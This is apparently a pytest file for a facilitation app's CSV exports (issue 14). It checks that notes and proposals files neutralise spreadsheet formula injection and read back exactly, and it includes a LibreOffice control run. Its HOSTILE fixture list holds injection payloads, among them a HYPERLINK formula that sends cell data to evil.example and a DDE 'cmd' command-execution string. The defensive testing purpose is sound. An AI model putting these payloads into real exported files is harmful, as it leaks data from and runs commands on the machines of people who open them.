"""One CSV writer for every CSV the app makes (issue 14, formula injection): the notes CSV, the
proposals CSV and its Decidim layout are neutralised the same way, offer the same BOM option, and
read back exactly through the one documented rule (``facilitator.csvfile.unneutralise``)."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess

import pytest

from facilitator.cli import main
from facilitator.csvfile import BOM, DANGEROUS, neutralise, unneutralise
from facilitator.store import EventFile

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1;"clic")',
    "=cmd|' /C calc'!A0",
    "+33 1 23 45 67 89",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign
    "'déjà une apostrophe",
    "'=1+1",
    "texte ordinaire, avec virgule; et point-virgule",
]


@pytest.fixture
def hostile(demo_path):
    with EventFile.open(demo_path) as ev:
        w, s = ev.kit.workshops[0].number, ev.kit.sections[0].id
        for text in HOSTILE:
            ev.add_note(w, s, text)
            pid = ev.add_proposal(text, text, "accelerate").focus
            ev.decide(pid, "retenue", text, "2016-07-01")
    return demo_path


def _export(path, tmp_path, args):
    out = tmp_path / "out.csv"
    assert main(["export", *args[:1], str(path), "-o", str(out), *args[1:]]) == 0
    return out.read_bytes()


LAYOUTS = {
    "notes": (["csv"], ",", "texte"),
    "proposals": (["proposals"], ",", "titre"),
    "decidim": (["proposals", "--decidim"], ";", "title/fr"),
}


@pytest.mark.parametrize("layout", LAYOUTS)
def test_every_csv_is_neutralised_and_reads_back_exactly(hostile, tmp_path, layout):
    args, delimiter, column = LAYOUTS[layout]
    data = _export(hostile, tmp_path, args)
    assert not data.startswith(BOM.encode())
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""), delimiter=delimiter))
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(DANGEROUS[:-1]), cell  # no cell a spreadsheet would evaluate
    texts = [unneutralise(r[column]) for r in rows]
    for text in HOSTILE:
        assert text in texts, text  # neutralised, not dropped nor altered
    # a text that really begins with an apostrophe is told apart: it carries two
    assert "''déjà une apostrophe" in [r[column] for r in rows]


@pytest.mark.parametrize("layout", LAYOUTS)
def test_every_csv_has_the_bom_option(hostile, tmp_path, layout):
    args, delimiter, _column = LAYOUTS[layout]
    plain = _export(hostile, tmp_path, args)
    with_bom = _export(hostile, tmp_path, [*args, "--bom"])
    assert with_bom == BOM.encode("utf-8") + plain


def test_neutralise_is_inverted_by_unneutralise():
    for text in [*HOSTILE, "", "a", "'", "''"]:
        cell = neutralise(text)
        assert not cell.startswith(DANGEROUS[:-1])
        assert unneutralise(cell) == text
    assert neutralise(-3) == -3  # numbers are written as numbers


SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice, libreoffice-calc-nogui) is not installed")
def test_libreoffice_evaluates_no_cell_of_any_csv(hostile, tmp_path):
    """The real LibreOffice Calc opens every CSV the app makes with « Évaluer les formules » on
    and saves it as XLSX: no cell is a formula. The same cells written raw (the control) do
    become formulas, so the check is able to fail."""
    openpyxl = pytest.importorskip("openpyxl")
    sheets = {}
    for layout, (args, delimiter, _column) in LAYOUTS.items():
        folder = tmp_path / layout
        folder.mkdir()
        (folder / f"{layout}.csv").write_bytes(_export(hostile, tmp_path, args))
        sheets[layout] = (folder, delimiter)
    control = tmp_path / "notes" / "control.csv"  # beside the notes: same delimiter, same run
    with open(control, "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([["texte"], *[[text] for text in HOSTILE]])
    for folder, delimiter in sheets.values():
        # CSV import options: separator, quote, UTF-8, from line 1, …, token 13 = evaluate formulas
        options = f"CSV:{ord(delimiter)},34,76,1,,0,false,true,false,false,false,-1,true"
        run = subprocess.run(
            [SOFFICE, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless",
             "--norestore", f"--infilter={options}", "--convert-to", "xlsx", "--outdir",
             str(folder / "xlsx"), *map(str, sorted(folder.glob("*.csv")))],
            capture_output=True, text=True, timeout=240, check=False)
        assert run.returncode == 0, run.stderr

    def formulas(path):
        book = openpyxl.load_workbook(path)
        return [c.value for row in book.active.iter_rows() for c in row if c.data_type == "f"]

    assert formulas(tmp_path / "notes" / "xlsx" / "control.xlsx")  # raw cells are evaluated
    for layout, (folder, _delimiter) in sheets.items():
        assert formulas(folder / "xlsx" / f"{layout}.xlsx") == [], layout
